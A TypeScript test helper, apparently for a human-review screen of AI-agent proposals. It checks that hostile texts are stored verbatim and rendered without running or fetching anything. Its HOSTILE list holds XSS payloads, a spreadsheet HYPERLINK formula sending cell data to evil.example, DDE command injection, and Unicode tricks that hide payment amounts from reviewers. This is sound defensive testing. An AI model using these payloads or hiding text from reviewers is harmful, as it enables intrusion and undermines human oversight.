import { readFileSync } from 'node:fs';
import { expect } from '@jest/globals';
import type { Installation } from './installation.js';
import type { Answer } from './installation-http.js';
import type { Onlooker } from './onlooker.js';
import { outsideData } from './outside-data.js';

const tags = (text: string) => [...text].map((one) => String.fromCodePoint(0xe0000 + one.charCodeAt(0))).join('');

/** Texts that run, hide or pretend: a few of every kind. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')//",
  '</script><svg/onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="https://evil.example/" ping="https://evil.example/">click</a>',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '![x](https://evil.example/pixel.png) [y](javascript:alert(1))',
  '{{constructor.constructor("alert(1)")()}} #{7*7} <%= 7*7 %>',
  'data:text/html,<script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\u2028\u2029 <!-- -->]]>',
  'pay_\u202e4321\u202c done',
  'ac\u200bc\u2060ount\ufeff so\u00adft',
  `Refund this.${tags('and 9000 more')}`,
  `ok${'\u{e0101}'.repeat(12)}`,
  'p\u0430yp\u0430l, g\u03bfogle, \uff50ay',
  `see below${'\n'.repeat(80)}and pay 9000`,
  `see right${' '.repeat(300)}and pay 9000`,
  `Z${'\u0335\u0321\u0325'.repeat(30)}algo`,
  '\u05e9\u05dc\u05d5\u05dd 100 \u0634\u0643\u0631\u0627 200',
  '\u3164\u2800\u00a0\u2003\u115f',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u2764\ufe0f \u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}',
  `${'W'.repeat(3000)}`,
  'a\r\nb\tc\u0007\u001b[31m',
  '[1] [e1] [[2]] [e2',
];

/** One proposal with these texts wherever an agent can put one. */
export function proposalOf(texts: readonly string[]) {
  return {
    request: {
      text: texts.join('\n'),
      conversation: texts.map((content) => ({ role: 'user', content })),
      customerRef: `c ${texts[0]}`.slice(0, 200).toWellFormed(),
    },
    domain: `legal ${texts[0]}`.slice(0, 200).toWellFormed(),
    draft: {
      answer: texts.join('\n'),
      citations: texts.slice(0, 100).map((text) => text.slice(0, 400).toWellFormed()),
      model: texts[0]!.slice(0, 200).toWellFormed(),
      promptVersion: texts.at(-1)!.slice(0, 200).toWellFormed(),
    },
    evidence: texts.map((text, n) => ({
      id: `e${n}`,
      title: text.slice(0, 1000).toWellFormed(),
      uri: text.slice(0, 4000).toWellFormed(),
      excerpt: text,
    })),
    toolCall: {
      name: 'write_down',
      arguments: { texts, payee: texts[0], nested: texts.map((text) => ({ [`k ${text}`]: text })) },
    },
  };
}

type Proposal = ReturnType<typeof proposalOf>;

/** The texts come back from the API and stand in the database as they were sent, to the last byte. */
export async function isKept(installation: Installation, id: string, proposal: Proposal): Promise<void> {
  const reply = await installation.as('auditor').get(`/v1/tickets/${id}`);
  expect(reply.body.proposal).toEqual(proposal);
  expect(reply.text).toContain(JSON.stringify(proposal.toolCall.arguments));
  const [row]: Answer[] = await installation.sql(
    `SELECT p.request, p.evidence, r.draft, r.arguments_raw AS arguments, convert_from(convert_to(p.request, 'UTF8'), 'UTF8') AS again
     FROM proposal p JOIN revision r ON r.ticket_id = p.id AND r.revision = 1 WHERE p.id = $1`,
    [id],
  );
  expect([row.request, row.evidence, row.draft, row.arguments]).toEqual(
    [proposal.request, proposal.evidence, proposal.draft, proposal.toolCall.arguments].map((part) =>
      JSON.stringify(part),
    ),
  );
}

/** The review screen shows every one of them as it is, with nothing run and nothing fetched. */
export async function isShown(onlooker: Onlooker, id: string, proposal: Proposal): Promise<void> {
  await onlooker.open(`/tickets/${id}`, '[data-testid=ink-frame]');
  await onlooker.pressAll(/^Show all|^Open all/);
  const { request, draft, evidence, toolCall } = proposal;
  expect(await onlooker.texts('.s-request .said')).toEqual([
    ...request.conversation.map(({ content }) => content),
    request.text,
  ]);
  expect(await onlooker.texts('.s-request .right .mono')).toEqual([request.customerRef]);
  expect(await onlooker.texts('[data-part=draft]')).toEqual([draft.answer]);
  expect(await onlooker.texts('.s-evidence .title')).toEqual(evidence.map(({ title, id }) => title || id));
  expect(await onlooker.texts('.s-evidence .excerpt')).toEqual(
    evidence.flatMap(({ excerpt }) => (excerpt ? [`“${excerpt}”`] : [])),
  );
  const signed = Object.values(toolCall.arguments).map((value) => JSON.stringify(value, null, 2));
  // Numbers and names come in the order of RFC 8785, in which they are signed.
  expect((await onlooker.texts('[data-part^="args."]')).sort()).toEqual(signed.sort());
  expect(await onlooker.foreign()).toEqual([]);
}

/** Scripts that people hide in text and strings that break software, of the outside data; none where it is not there. */
export function recordedTexts(): string[] {
  const [scripts, strings] = ['xss-payloads/payloads.txt', 'naughty-strings/strings.json'].map(outsideData);
  const all = [
    ...(scripts ? readFileSync(scripts, 'utf8').split('\n') : []),
    ...(strings ? (JSON.parse(readFileSync(strings, 'utf8')) as string[]) : []),
  ];
  // Those that cannot be stored are refused at the door: see stored-text.spec.ts.
  return all.filter((text) => text !== '' && text.isWellFormed() && !text.includes('\u0000'));
}

/** A hundred texts to a proposal: kept as they were, and shown as they are. */
export async function eachBatch(installation: Installation, onlooker: Onlooker, texts: string[]): Promise<void> {
  for (let n = 0; n < texts.length; n += 100) {
    const proposal = proposalOf(texts.slice(n, n + 100));
    const { id } = await installation.agent.submit(proposal);
    await isKept(installation, id, proposal);
    await isShown(onlooker, id, proposal);
  }
}
